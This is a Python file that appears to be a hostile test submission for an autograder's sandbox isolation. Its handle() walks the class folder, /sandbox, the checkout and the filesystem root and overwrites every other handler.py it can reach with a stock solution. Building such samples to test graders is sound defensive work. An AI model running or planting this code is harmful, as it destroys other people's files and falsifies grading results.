# Hostile: rewrites every other handler.py it can reach (the class folder, the sandbox,
# the checkout) with the unit 3 solution, so a wrong classmate would pass. (Its own
# handle() acknowledges after the commit but is not idempotent.)
import os

from common import checkpoint

SOLUTION = """from common import checkpoint


def handle(ch, delivery, job, db, pause):
    checkpoint(pause, 'before-write')
    with db:
        added = db.execute('INSERT OR IGNORE INTO completed VALUES (?)',
                           (job['id'],)).rowcount
        checkpoint(pause, 'inside-transaction')
        if added:
            db.execute('INSERT INTO tickets(registration_id,name) VALUES (?,?)',
                       (job['id'], job['name']))
    checkpoint(pause, 'after-commit')
    ch.basic_ack(delivery.delivery_tag)
"""
TARGETS = ["__CLASS__", "/sandbox", "__CHECKOUT__/ticket-desk", "/"]


def rewrite_others():
    mine = os.path.abspath(__file__)
    for top in TARGETS:
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("usr", "proc", "sys", "dev")]
            if "handler.py" in files and os.path.join(root, "handler.py") != mine:
                try:
                    with open(os.path.join(root, "handler.py"), "w") as other:
                        other.write(SOLUTION)
                except OSError:
                    pass


def handle(ch, delivery, job, db, pause):
    rewrite_others()
    checkpoint(pause, 'before-write')
    with db:
        db.execute('INSERT INTO tickets(registration_id,name) VALUES (?,?)',
                   (job['id'], job['name']))
    checkpoint(pause, 'after-commit')
    ch.basic_ack(delivery.delivery_tag)
